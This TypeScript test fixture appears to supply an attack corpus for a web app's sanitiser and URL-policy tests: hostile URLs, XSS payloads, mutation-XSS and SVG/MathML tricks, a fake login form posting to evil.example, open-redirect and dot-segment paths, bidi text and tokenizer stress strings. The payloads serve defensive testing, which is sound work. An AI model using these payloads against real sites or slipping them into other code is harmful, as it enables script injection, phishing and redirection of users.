/**
 * The attack corpus (issue 13): hostile HTML and hostile addresses that every HTML sink (post-body sanitiser, reader
 * guide sanitiser) and every URL sink (link policy, media policy, share URL builder, chat link detection) must
 * survive. `attack-corpus.test.ts` runs each vector through each sink and counts what gets through. Also the
 * adversarial bodies for the linear-time tokenizer (unit test and `bench/text/tokenize.perf.tsx`).
 *
 * Every payload would set `window.__pwned`, navigate off-site, or cover the page if it survived.
 */

/** The site the sinks run on. */
export const CORPUS_ORIGIN = 'https://margin.example.com';

const JS = 'javascript:window.__pwned=1';

/** Hostile addresses: schemes, whitespace and control characters, slashes, entities, userinfo, unicode. */
export const URL_VECTORS: readonly string[] = [
  JS,
  'JaVaScRiPt:window.__pwned=1',
  ' javascript:window.__pwned=1',
  '\u0000javascript:window.__pwned=1',
  '\u0001\u001fjavascript:window.__pwned=1',
  'java\tscript:window.__pwned=1',
  'java\nscript:window.__pwned=1',
  'java\rscript:window.__pwned=1',
  'jav\u0000ascript:window.__pwned=1',
  'javascript\t:window.__pwned=1',
  'javascript&colon;window.__pwned=1',
  '&#106;avascript:window.__pwned=1',
  '&#x6A;avascript:window.__pwned=1',
  'javascript%3Awindow.__pwned=1',
  '\ufeffjavascript:window.__pwned=1',
  'vbscript:msgbox(1)',
  'VBScript:msgbox(1)',
  'livescript:window.__pwned=1',
  'data:text/html,<script>window.__pwned=1</script>',
  'data:text/html;base64,PHNjcmlwdD53aW5kb3cuX19wd25lZD0xPC9zY3JpcHQ+',
  'DATA:TEXT/HTML,<script>window.__pwned=1</script>',
  'data:image/svg+xml,<svg onload="window.__pwned=1"/>',
  'data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9ImFsZXJ0KDEpIi8+',
  'data:application/xhtml+xml,<x:script xmlns:x="http://www.w3.org/1999/xhtml">window.__pwned=1</x:script>',
  'data:image/png;foo=bar,<script>',
  'da\tta:text/html,<script>window.__pwned=1</script>',
  'ftp://evil.example/file.png',
  'file:///etc/passwd',
  'jar:https://evil.example/a.jar!/',
  'view-source:https://evil.example',
  'intent://evil.example#Intent;scheme=https;end',
  'ms-appinstaller:?source=https://evil.example/x',
  'about:blank',
  'ws://evil.example/socket',
  '//evil.example',
  '///evil.example',
  '////evil.example',
  '/\\evil.example',
  '\\\\evil.example',
  '\\/evil.example',
  '/\t/evil.example',
  '/\n/evil.example',
  '/\r/evil.example',
  '/ /evil.example',
  '\t//evil.example',
  '/%2F/evil.example',
  '/%5Cevil.example',
  'https:/\\evil.example',
  'https:\\\\evil.example',
  'https:evil.example',
  'http:evil.example',
  'https://margin.example.com@evil.example/',
  'https://margin.example.com:pw@evil.example/',
  'https://evil.example#@margin.example.com',
  'https://evil.example\\@margin.example.com',
  'https://evil.example?@margin.example.com',
  'https://margin.example.com.evil.example/',
  'https://evil。example/',
  'https://evil．example/',
  'https://evil｡example/',
  'https://еvil.example/',
  'https://xn--vil-jjb.example/',
  'https://margin.example.com%2F@evil.example/',
  'https://0x7f.0.0.1/',
  'https://[::ffff:127.0.0.1]/',
  'https://2130706433/',
  'blob:https://evil.example/uuid',
  'https://margin.example.com/p/ok',
  '/p/ok',
  '/p/ok?x=1#y',
  'relative/path',
  '#top',
  '',
];

/** Hostile HTML for the post-body and reader-guide sanitisers. */
export const HTML_VECTORS: readonly string[] = [
  '<script>window.__pwned=1</script>',
  '<SCRIPT SRC=https://evil.example/x.js></SCRIPT>',
  '<img src=x onerror="window.__pwned=1">',
  '<img src="javascript:window.__pwned=1">',
  '<img src="data:text/html,<script>window.__pwned=1</script>">',
  '<img src="data:image/svg+xml,<svg onload=window.__pwned=1>">',
  '<img src="ftp://evil.example/a.png">',
  '<img src="//evil.example/track.png">',
  '<img src="/\\evil.example/track.png">',
  '<img srcset="javascript:window.__pwned=1 1x, https://ok.example/a.png 2x">',
  '<img srcset="data:image/svg+xml,<svg> 1x">',
  '<picture><source srcset="javascript:window.__pwned=1"><img src="https://ok.example/a.png"></picture>',
  '<video src="javascript:window.__pwned=1" poster="data:image/svg+xml,<svg/>"></video>',
  '<video poster="javascript:window.__pwned=1"><source src="data:text/html,x"></video>',
  '<audio src="vbscript:x"></audio>',
  '<iframe src="https://evil.example"></iframe>',
  '<iframe srcdoc="<script>parent.__pwned=1</script>"></iframe>',
  '<frameset><frame src="javascript:window.__pwned=1"></frameset>',
  '<frameset onload="window.__pwned=1">',
  '<frameset><p>after a frameset</p>',
  '<object data="javascript:window.__pwned=1"></object>',
  '<embed src="javascript:window.__pwned=1">',
  '<svg onload="window.__pwned=1"></svg>',
  '<svg><script>window.__pwned=1</script></svg>',
  '<svg><a xlink:href="javascript:window.__pwned=1"><text>x</text></a></svg>',
  '<svg><a href="//evil.example"><text>svg link</text></a></svg>',
  '<svg><use href="https://evil.example/sprite.svg#x"></use></svg>',
  '<svg><image href="javascript:window.__pwned=1"></image></svg>',
  '<svg><animate attributeName="href" to="javascript:window.__pwned=1"/></svg>',
  '<svg><set attributeName="onmouseover" to="window.__pwned=1"/></svg>',
  '<svg><foreignObject><iframe src="javascript:window.__pwned=1"></iframe></foreignObject></svg>',
  '<math><mtext><table><mglyph><style><img src=x onerror="window.__pwned=1"></style></mglyph></table></mtext></math>',
  '<math href="javascript:window.__pwned=1">x</math>',
  '<math><maction actiontype="statusline" xlink:href="javascript:window.__pwned=1">x</maction></math>',
  '<form action="https://evil.example/steal"><input name="password"><button>Sign in</button></form>',
  '<button formaction="javascript:window.__pwned=1">Go</button>',
  '<meta http-equiv="refresh" content="0;url=https://evil.example">',
  '<base href="https://evil.example/">',
  '<link rel="stylesheet" href="https://evil.example/x.css">',
  '<style>body{display:none}</style>',
  '<div style="position:fixed;inset:0;z-index:99999;background:white">Your session expired. <a href="https://evil.example/login">Sign in</a></div>',
  '<p style="background:url(javascript:window.__pwned=1)">styled</p>',
  '<div class="fixed inset-0" id="root">clobber</div>',
  '<dialog open>Enter your password</dialog>',
  '<div popover>popover</div>',
  '<table background="javascript:window.__pwned=1"><tr><td>x</td></tr></table>',
  '<noscript><p title="</noscript><img src=x onerror=window.__pwned=1>"></noscript>',
  '<noscript><style></noscript><img src=x onerror="window.__pwned=1">',
  '<p title="</p><img src=x onerror=window.__pwned=1>">mxss title</p>',
  '<svg></p><style><a id="</style><img src=1 onerror=window.__pwned=1>">',
  '<template><img src=x onerror="window.__pwned=1"></template>',
  '<textarea></textarea><img src=x onerror="window.__pwned=1">',
  '<xmp><img src=x onerror="window.__pwned=1"></xmp>',
  '<body onload="window.__pwned=1">',
  '<details open ontoggle="window.__pwned=1">x</details>',
  '<marquee onstart="window.__pwned=1">x</marquee>',
  '<a href="javascript:window.__pwned=1">js link</a>',
  '<a href=" JaVaScRiPt:window.__pwned=1">spaced js</a>',
  '<a href="java&#x09;script:window.__pwned=1">entity tab</a>',
  '<a href="java&#10;script:window.__pwned=1">entity lf</a>',
  '<a href="&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;window.__pwned=1">entities</a>',
  '<a href="javascript&colon;window.__pwned=1">colon entity</a>',
  '<a href="vbscript:msgbox(1)">vb</a>',
  '<a href="data:text/html,<script>window.__pwned=1</script>">data link</a>',
  '<a href="/\\evil.example">backslash</a>',
  '<a href="/&#9;/evil.example">tab</a>',
  '<a href="/&#10;/evil.example">newline</a>',
  '<a href="/\t/evil.example">raw tab</a>',
  '<a href="//evil.example">protocol-relative</a>',
  '<a href="\\\\evil.example">double backslash</a>',
  '<a href="https:\\\\evil.example">https backslash</a>',
  '<a href="https://margin.example.com@evil.example">userinfo</a>',
  '<a href="https://evil。example">unicode dot</a>',
  '<a href="https://evil.example" target="_self" rel="opener">opener</a>',
  '<a href="/p/ok" target="_blank" rel="opener">internal with opener</a>',
  '<a href="ftp://evil.example">ftp</a>',
  '<a ping="https://evil.example/track" href="/p/ok">ping</a>',
  '<map name="m"><area shape="rect" coords="0,0,10,10" href="javascript:window.__pwned=1"></map>',
  '<map name="m"><area href="//evil.example"></map>',
  '<a href="https://ok.example" onclick="window.__pwned=1">handler</a>',
  '<isindex action="javascript:window.__pwned=1" type=image>',
  '<input type="image" src="javascript:window.__pwned=1">',
  '<keygen autofocus onfocus="window.__pwned=1">',
  '<div data-x="1" onmouseover="window.__pwned=1">hover</div>',
  '<img src="x" alt="ok" ONERROR="window.__pwned=1">',
  '<img """><script>window.__pwned=1</script>">',
  '<<script>script>window.__pwned=1<</script>/script>',
  '<a href="https://ok.example/a.png"><img src="https://ok.example/a.png"></a>',
  '<blockquote cite="javascript:window.__pwned=1">q</blockquote>',
  '<p>Fine text with <strong>bold</strong> and <a href="/p/ok">a link</a>.</p>',
];

/** Hostile chat bodies of about `n` characters for the linear-time tokenizer (defect 5). */
export function adversarialBodies(n: number): Record<string, string> {
  const rep = (unit: string) => unit.repeat(Math.ceil(n / unit.length)).slice(0, n);
  return {
    'url + )))': `https://a${')'.repeat(n - 9)}`,
    'url + ).).': `https://a${rep(').')}`.slice(0, n),
    'url + ))) + x': `https://a${')'.repeat(n - 10)}x`,
    'url + dots + x': `https://a${'.'.repeat(n - 10)}x`,
    '@@@': '@'.repeat(n),
    '@a@a': rep('@a'),
    '[@[@': rep('[@'),
    '[@a](user:': rep('[@a](user:'),
    '[@a](user:1111': `[@a](user:${'1'.repeat(n - 10)}`,
    'http:// repeated': rep('http://'),
    'https://a. repeated': rep('https://a.'),
    dots: '.'.repeat(n),
    'url + ((((': `https://a${'('.repeat(n - 9)}`,
    mixed: rep('https://a.b/(x). [@b](user:1) @c ).,:!? [@d]( http:// '),
  };
}

// ——— Hostile data for names, bodies, addresses, path parameters, form fields and media URLs (issue 23) ———
// Every new area runs these from its first commit: `attack-corpus.test.ts` (sinks and parsers) and
// `tests/host/hostile-areas.test.tsx` (screens in a host's jsdom).

const RLO = '\u202E';

/** Names and bodies that reorder the text around them unless isolated (an override, an isolate left open, RTL letters). */
export const BIDI_TEXTS: readonly string[] = [
  `Eve${RLO}live`,
  `${RLO}moc.elpmaxe`,
  'Dana \u2067evil.exe',
  'שלום',
  'مرحبا 3',
  `a\u202Db\u202Ac`,
  `\u200F${RLO}\u2066x`,
];

/** A body of `n` characters (the 100,000-character realtime message). */
export const longBody = (n = 100_000): string => 'see you at 9 pm '.repeat(Math.ceil(n / 16)).slice(0, n);

/**
 * Addresses whose path starts with empty segments (or reads as one after dot segments): routed like the single-slash
 * path, and never written back as a scheme-relative address (`//newsletters` is the origin `https://newsletters`).
 */
export const EMPTY_SEGMENT_PATHS: readonly string[] = [
  '//newsletters',
  '///newsletters',
  '//p/three-voices',
  '//p/three-voices/comments',
  '/\\newsletters',
  '\\\\newsletters',
  '//evil.example/newsletters',
  '/newsletters//',
  '/p//three-voices',
  '/..//evil.example',
  '/.//evil.example',
];

/** `next` values that must come back as a path on this site (or the fallback), by construction. */
export const NEXT_VECTORS: readonly string[] = [
  ...EMPTY_SEGMENT_PATHS,
  '/%5Cevil.example',
  '/%2F/evil.example',
  '/./..//evil.example',
  '/a/../..//evil.example',
];

/** Path parameters that are dot segments, written plainly or escaped: `fetch` would collapse them into another endpoint. */
export const DOT_SEGMENT_PARAMS: readonly string[] = ['.', '..', '%2e', '%2E', '%2e%2e', '%2E%2e', '.%2e', '%2e.', '%252e', '%252E%252e', '%25252e%25252e'];

/** E-mails a browser's `type=email` shape accepts and an API's e-mail rule refuses. */
export const HOSTILE_EMAILS: readonly string[] = [
  'paolo\u200B@example.com',
  `paolo@${RLO}moc.elpmaxe.com`,
  '"<script>alert(1)</script>"@example.com',
  'paolo@exa mple.com'.replace(' ', '\u00A0'),
  'paolo@example.com\u2069',
  'paolo@example..com',
];

/** Media addresses (a stream's or a video's `src`) that must not reach an element: every refused link vector plus these. */
export const MEDIA_URL_VECTORS: readonly string[] = [
  'javascript:window.__pwned=1',
  'data:text/html,<script>window.__pwned=1</script>',
  'vbscript:msgbox(1)',
  'java\tscript:window.__pwned=1',
  'data:image/svg+xml,<svg onload="window.__pwned=1"/>',
  ' JaVaScRiPt:window.__pwned=1',
  'ftp://evil.example/live.m3u8',
  'file:///etc/passwd',
];
